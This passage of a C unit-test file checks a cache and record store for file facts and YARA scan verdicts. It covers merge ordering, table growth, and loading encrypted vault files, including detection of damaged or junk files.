        uint8_t save = b.ptr[i];
        b.ptr[i] ^= 0x04;
        (void)hn_cache_merge_file(e, b.ptr, b.len, &file);
        b.ptr[i] = save;
    }
    hn_cache_free(e);
    hn_cache_free(c);
    hn_cache_free(d);
    hn_cache_free(NULL);
    cr_buf_free(&b);
}

/* Merging: union of what files know; the newest file's YARA verdict wins, in any order. */
static void test_facts_merge(void)
{
    hn_cache *c1 = NULL, *c2 = NULL, *m = NULL;
    hn_facts f;
    cr_buf old_file = CR_BUF_INIT, new_file = CR_BUF_INIT;
    size_t n;
    cr_id id_old = mkid(200), id_new = mkid(100); /* the newer file has the smaller name */
    static const char *const r1[] = {"Old_Rule"};
    static const char *const r2[] = {"New_Rule_A", "New_Rule_B"};

    REQUIRE(hn_cache_new(&c1) == 0 && hn_cache_new(&c2) == 0);
    facts_init(&f, 1);
    f.have = HN_HAVE_HEAD | HN_HAVE_MD5;
    f.entropy = 3.5;
    f.head_len = 10;
    f.magic_len = 2;
    f.magic[0] = 'P';
    f.magic[1] = 'K';
    memset(f.md5, 1, 16);
    facts_yara(&f, 1, r1, 1);
    REQUIRE(hn_cache_put(c1, &f) == 0);
    facts_free_names(&f);
    facts_init(&f, 2);
    facts_yara(&f, 1, r1, 1);
    REQUIRE(hn_cache_put(c1, &f) == 0);
    facts_free_names(&f);
    REQUIRE(hn_cache_encode(&old_file, &n, c1, 1, 1000) == 0 && n == 2);

    facts_init(&f, 1);
    f.have = HN_HAVE_SHA256;
    memset(f.sha256, 2, 32);
    facts_yara(&f, 2, NULL, 0);
    REQUIRE(hn_cache_put(c2, &f) == 0);
    facts_free_names(&f);
    facts_init(&f, 2);
    facts_yara(&f, 2, r2, 2);
    REQUIRE(hn_cache_put(c2, &f) == 0);
    facts_free_names(&f);
    facts_init(&f, 3);
    f.have = HN_HAVE_SHA1;
    memset(f.sha1, 3, 20);
    f.partial = 1;
    REQUIRE(hn_cache_put(c2, &f) == 0);
    REQUIRE(hn_cache_encode(&new_file, &n, c2, 1, 2000) == 0 && n == 3);

    char yid1[CR_ID_HEX_LEN + 1], yid2[CR_ID_HEX_LEN + 1];
    set_hex(yid1, 1);
    set_hex(yid2, 2);
    for (int order = 0; order < 2; order++) {
        REQUIRE(hn_cache_new(&m) == 0);
        if (order == 0) {
            CHECK_OK(hn_cache_merge_file(m, old_file.ptr, old_file.len, &id_old));
            CHECK_OK(hn_cache_merge_file(m, new_file.ptr, new_file.len, &id_new));
        } else {
            CHECK_OK(hn_cache_merge_file(m, new_file.ptr, new_file.len, &id_new));
            CHECK_OK(hn_cache_merge_file(m, old_file.ptr, old_file.len, &id_old));
        }
        CHECK(hn_cache_count(m) == 3);
        cr_id a = mkid(1), b2 = mkid(2), c3 = mkid(3);
        hn_facts *x = hn_cache_get(m, &a), *y = hn_cache_get(m, &b2), *z = hn_cache_get(m, &c3);
        REQUIRE(x && y && z);
        CHECK(x->have == (HN_HAVE_HEAD | HN_HAVE_MD5 | HN_HAVE_SHA256 | HN_HAVE_YARA));
        CHECK(x->entropy == 3.5 && x->magic_len == 2 && x->magic[0] == 'P' && x->md5[0] == 1 &&
              x->sha256[31] == 2);
        CHECK(!strcmp(x->yara_id, yid2) && x->nyara == 0);
        CHECK(!strcmp(y->yara_id, yid2) && y->nyara == 2 && !strcmp(y->yara[0], "New_Rule_A"));
        CHECK(z->have == HN_HAVE_SHA1 && z->sha1[0] == 3 && z->partial == 1);
        /* nothing loaded is dirty */
        CHECK_OK(hn_cache_encode(&new_file, &n, m, 1, 1));
        CHECK(n == 0);
        hn_cache_free(m);
        REQUIRE(hn_cache_encode(&new_file, &n, c2, 1, 2000) == 0 && n == 3);
    }

    /* Same time: the file with the greater name wins. */
    REQUIRE(hn_cache_encode(&old_file, &n, c1, 1, 2000) == 0);
    REQUIRE(hn_cache_new(&m) == 0);
    CHECK_OK(hn_cache_merge_file(m, new_file.ptr, new_file.len, &id_new));
    CHECK_OK(hn_cache_merge_file(m, old_file.ptr, old_file.len, &id_old));
    {
        cr_id b2 = mkid(2);
        CHECK(!strcmp(hn_cache_get(m, &b2)->yara_id, yid1));
    }

    /* put: a new verdict of this run replaces, and marks the content for the next save;
     * putting what is already known changes nothing. */
    {
        cr_id b2 = mkid(2);
        facts_init(&f, 2);
        facts_yara(&f, 1, r1, 1);
        CHECK_OK(hn_cache_put(m, &f));
        CHECK_OK(hn_cache_encode(&new_file, &n, m, 1, 1));
        CHECK(n == 0);
        facts_free_names(&f);
        facts_yara(&f, 5, r2, 2);
        CHECK_OK(hn_cache_put(m, &f));
        facts_free_names(&f);
        facts_yara(&f, 6, r2, 1);
        CHECK_OK(hn_cache_put(m, &f)); /* twice in one run: the last wins */
        facts_free_names(&f);
        char yid6[CR_ID_HEX_LEN + 1];
        set_hex(yid6, 6);
        CHECK(!strcmp(hn_cache_get(m, &b2)->yara_id, yid6) && hn_cache_get(m, &b2)->nyara == 1);
        CHECK_OK(hn_cache_encode(&new_file, &n, m, 1, 1));
        CHECK(n == 1);
    }
    hn_cache_free(m);
    hn_cache_free(c1);
    hn_cache_free(c2);
    cr_buf_free(&old_file);
    cr_buf_free(&new_file);
}

/* Many contents: the table grows, lookups find each, pointers stay valid. */
static void test_cache_many(void)
{
    hn_cache *c = NULL;
    hn_facts f;
    hn_facts *first;
    cr_id id0;
    REQUIRE(hn_cache_new(&c) == 0);
    memset(&f, 0, sizeof(f));
    for (uint32_t i = 0; i < 20000; i++) {
        memset(&f.content, 0, sizeof(f.content));
        memcpy(f.content.b + 8, &i, sizeof(i)); /* ids alike in their first bytes */
        f.size = i;
        REQUIRE(hn_cache_put(c, &f) == 0);
        if (i == 0) {
            id0 = f.content;
        }
    }
    first = hn_cache_get(c, &id0);
    CHECK(hn_cache_count(c) == 20000);
    int all = 1;
    for (uint32_t i = 0; i < 20000; i++) {
        cr_id id;
        memset(&id, 0, sizeof(id));
        memcpy(id.b + 8, &i, sizeof(i));
        hn_facts *x = hn_cache_get(c, &id);
        all &= x && x->size == i;
    }
    CHECK(all);
    for (uint32_t i = 20000; i < 40000; i++) {
        memset(&f.content, 0, sizeof(f.content));
        memcpy(f.content.b + 8, &i, sizeof(i));
        REQUIRE(hn_cache_put(c, &f) == 0);
    }
    CHECK(hn_cache_get(c, &id0) == first && first->size == 0);
    cr_id none = mkid(250);
    CHECK(hn_cache_get(c, &none) == NULL);
    hn_cache_free(c);
}

/* ------------------------------------------------------------ in a vault */

static void test_vault_files(void)
{
    char dir[64];
    cr_repo *repo = fx_repo_new(dir, "store");
    hn_cache *c = NULL, *l = NULL;
    hn_facts f;
    hn_records rs;
    warnings w;
    static const char *const names[] = {"Rule\xff"}; /* not UTF-8: stored in hex */

    /* No hunt/ folder yet: empty, no warning. */
    memset(&w, 0, sizeof(w));
    CHECK_OK(hn_cache_load(&c, repo, on_warning, &w));
    CHECK(c && hn_cache_count(c) == 0);
    CHECK_OK(hn_records_load(&rs, repo, on_warning, &w));
    CHECK(rs.n == 0 && rs.r == NULL && w.n == 0);
    CHECK(hn_records_find(&rs, &(cr_id){{0}}) == NULL);
    hn_records_clear(&rs);

    /* Nothing to save: no file. */
    CHECK_OK(hn_cache_save(c, repo));
    CHECK(count_hunt_files(repo) == 0);

    /* Facts: two saves, loaded and merged. */
    facts_init(&f, 1);
    f.have = HN_HAVE_MD5;
    memset(f.md5, 9, 16);
    CHECK_OK(hn_cache_put(c, &f));
    CHECK_OK(hn_cache_save(c, repo));
    CHECK(count_hunt_files(repo) == 1);
    CHECK_OK(hn_cache_save(c, repo)); /* nothing changed since */
    CHECK(count_hunt_files(repo) == 1);
    CHECK_OK(hn_cache_put(c, &f)); /* same facts again: no change */
    CHECK_OK(hn_cache_save(c, repo));
    CHECK(count_hunt_files(repo) == 1);
    facts_init(&f, 1);
    facts_yara(&f, 8, names, 1);
    CHECK_OK(hn_cache_put(c, &f));
    facts_free_names(&f);
    facts_init(&f, 2);
    f.have = HN_HAVE_HEAD;
    f.entropy = 0.5;
    f.head_len = 3;
    f.magic_len = 3;
    memcpy(f.magic, ((const uint8_t[]){0x7f, 'E', 'L'}), 3);
    CHECK_OK(hn_cache_put(c, &f));
    CHECK_OK(hn_cache_save(c, repo));
    CHECK(count_hunt_files(repo) == 2);
    hn_cache_free(c);

    CHECK_OK(hn_cache_load(&l, repo, on_warning, &w));
    CHECK(w.n == 0 && hn_cache_count(l) == 2);
    {
        cr_id a = mkid(1), b = mkid(2);
        hn_facts *x = hn_cache_get(l, &a), *y = hn_cache_get(l, &b);
        REQUIRE(x && y);
        CHECK(x->have == (HN_HAVE_MD5 | HN_HAVE_YARA) && x->md5[15] == 9 && x->nyara == 1 &&
              !strcmp(x->yara[0], "Rule\xff"));
        CHECK(y->have == HN_HAVE_HEAD && y->magic_len == 3 && y->magic[0] == 0x7f &&
              y->magic[2] == 'L');
    }
    hn_cache_free(l);

    /* Records: the newest per snapshot wins; others are found by snapshot. */
    hn_record r;
    make_record(&r, 30, 100, 4);
    CHECK_OK(hn_record_save(repo, &r));
    hn_record_clear(&r);
    make_record(&r, 30, 300, 6); /* newer */
    hn_record keep30;
    make_record(&keep30, 30, 300, 6);
    CHECK_OK(hn_record_save(repo, &r));
    hn_record_clear(&r);
    make_record(&r, 30, 200, 1);
    CHECK_OK(hn_record_save(repo, &r));
    hn_record_clear(&r);
    for (uint8_t s = 31; s < 40; s++) {
        make_record(&r, s, 50, s % 3);
        CHECK_OK(hn_record_save(repo, &r));
        hn_record_clear(&r);
    }
    CHECK(count_hunt_files(repo) == 14);

    memset(&w, 0, sizeof(w));
    CHECK_OK(hn_records_load(&rs, repo, on_warning, &w));
    CHECK(w.n == 0 && rs.n == 10);
    for (size_t i = 1; i < rs.n; i++)
        CHECK(memcmp(&rs.r[i - 1].snapshot, &rs.r[i].snapshot, sizeof(cr_id)) < 0);
    {
        cr_id s30 = mkid(30), s35 = mkid(35), s99 = mkid(99);
        const hn_record *x = hn_records_find(&rs, &s30);
        REQUIRE(x);
        CHECK(x->hunted_ns == 300 && x->nfindings == 6 && record_eq(x, &keep30));
        x = hn_records_find(&rs, &s35);
        CHECK(x && x->nfindings == 35 % 3 && x->hunted_ns == 50);
        CHECK(hn_records_find(&rs, &s99) == NULL);
    }
    hn_records_clear(&rs);
    CHECK(rs.r == NULL && rs.n == 0);
    hn_records_clear(&rs);

    /* Same hunted_ns: the file with the greater name wins. */
    {
        cr_id *ids = NULL, a, b;
        size_t n = 0;
        REQUIRE(cr_repo_list(&ids, &n, repo, "hunt") == 0);
        make_record(&r, 40, 7, 1);
        free(r.findings[0].detail);
        r.findings[0].detail = strdup("first");
        CHECK_OK(hn_record_save(repo, &r));
        a = newest_file(repo, ids, n);
        free(ids);
        REQUIRE(cr_repo_list(&ids, &n, repo, "hunt") == 0);
        free(r.findings[0].detail);
        r.findings[0].detail = strdup("second");
        CHECK_OK(hn_record_save(repo, &r));
        b = newest_file(repo, ids, n);
        free(ids);
        hn_record_clear(&r);
        CHECK_OK(hn_records_load(&rs, repo, on_warning, &w));
        cr_id s40 = mkid(40);
        const hn_record *x = hn_records_find(&rs, &s40);
        REQUIRE(x && x->nfindings == 1);
        CHECK(!strcmp(x->findings[0].detail, memcmp(&a, &b, sizeof(a)) > 0 ? "first" : "second"));
        hn_records_clear(&rs);
    }

    /* Damage: a flipped byte in the newer record of snapshot 30 → warned, skipped; the
     * older one shows instead. Facts still load. */
    {
        cr_id *ids = NULL;
        size_t n = 0;
        REQUIRE(cr_repo_list(&ids, &n, repo, "hunt") == 0);
        /* find the file of the hunted_ns 300 record: the one whose loss shows 200 */
        cr_id damaged = {{0}};
        int found = 0;
        for (size_t i = 0; i < n && !found; i++) {
            cr_buf p = CR_BUF_INIT;
            REQUIRE(cr_repo_load_file(&p, repo, "hunt", &ids[i]) == 0);
            if (hn_record_decode(&r, p.ptr, p.len) == 0) {
                cr_id s30 = mkid(30);
                if (!memcmp(&r.snapshot, &s30, sizeof(s30)) && r.hunted_ns == 300) {
                    damaged = ids[i];
                    found = 1;
                }
                hn_record_clear(&r);
            }
            cr_buf_free(&p);
        }
        free(ids);
        REQUIRE(found);
        flip_byte(dir, &damaged, 40);
        memset(&w, 0, sizeof(w));
        CHECK_OK(hn_records_load(&rs, repo, on_warning, &w));
        CHECK(w.n == 1);
        char hex[CR_ID_HEX_LEN + 1], want[80];
        snprintf(want, sizeof(want), "hunt/%s", cr_id_to_hex(hex, &damaged));
        CHECK(!strcmp(w.last_path, want));
        CHECK(strstr(w.last_msg, "damaged") != NULL);
        cr_id s30 = mkid(30);
        const hn_record *x = hn_records_find(&rs, &s30);
        CHECK(x && x->hunted_ns == 200);
        CHECK(rs.n == 11);
        hn_records_clear(&rs);

        memset(&w, 0, sizeof(w));
        CHECK_OK(hn_cache_load(&l, repo, on_warning, &w));
        CHECK(w.n == 1 && hn_cache_count(l) == 2);
        hn_cache_free(l);
    }

    /* A damaged facts file: warned, skipped; the other facts file still counts. */
    {
        cr_id *ids = NULL;
        size_t n = 0;
        REQUIRE(cr_repo_list(&ids, &n, repo, "hunt") == 0);
        int flipped = 0;
        for (size_t i = 0; i < n && !flipped; i++) {
            cr_buf p = CR_BUF_INIT;
            hn_cache *t = NULL;
            if (cr_repo_load_file(&p, repo, "hunt", &ids[i]) == 0) {
                REQUIRE(hn_cache_new(&t) == 0);
                cr_id two = mkid(2);
                if (hn_cache_merge_file(t, p.ptr, p.len, &ids[i]) == 0 && hn_cache_get(t, &two)) {
                    flip_byte(dir, &ids[i], 0); /* in the nonce: authentication fails */
                    flipped = 1;
                }
                hn_cache_free(t);
            }
            cr_buf_free(&p);
        }
        free(ids);
        REQUIRE(flipped);
        memset(&w, 0, sizeof(w));
        CHECK_OK(hn_cache_load(&l, repo, on_warning, &w));
        CHECK(w.n == 2); /* the damaged record and the damaged facts file */
        cr_id a = mkid(1), b = mkid(2);
        CHECK(hn_cache_count(l) == 1 && hn_cache_get(l, &a) && !hn_cache_get(l, &b));
        hn_cache_free(l);
    }

    /* Plaintext that decrypts but is not a hunt file, and a record with a bad body. */
    {
        cr_id id;
        const char *junk = "this is not JSON\n";
        const char *badrec = HDR(2) FND("");
        REQUIRE(cr_repo_save_file(&id, repo, "hunt", junk, strlen(junk)) == 0);
        REQUIRE(cr_repo_save_file(&id, repo, "hunt", badrec, strlen(badrec)) == 0);
        memset(&w, 0, sizeof(w));
        CHECK_OK(hn_records_load(&rs, repo, on_warning, &w));
        CHECK(w.n == 4); /* 2 damaged files, junk, bad record */
        CHECK(rs.n == 11);
        hn_records_clear(&rs);
        memset(&w, 0, sizeof(w));
        CHECK_OK(hn_cache_load(&l, repo, on_warning, &w));
        CHECK(w.n == 3); /* 2 damaged files, junk; the bad record is not its business */
        hn_cache_free(l);
        /* loading without a callback is fine too */
        CHECK_OK(hn_records_load(&rs, repo, NULL, NULL));
        hn_records_clear(&rs);
    }

    hn_record_clear(&keep30);
    fx_repo_free(repo, dir);
}

int main(void)
{
    REQUIRE(cr_init() == 0);
    test_names();
    test_finding_same_copy();
    test_record_roundtrip();
    test_record_garbage();
    test_facts_codec();
    test_facts_merge();
    test_cache_many();
    test_vault_files();
    return test_summary("test_store");
}
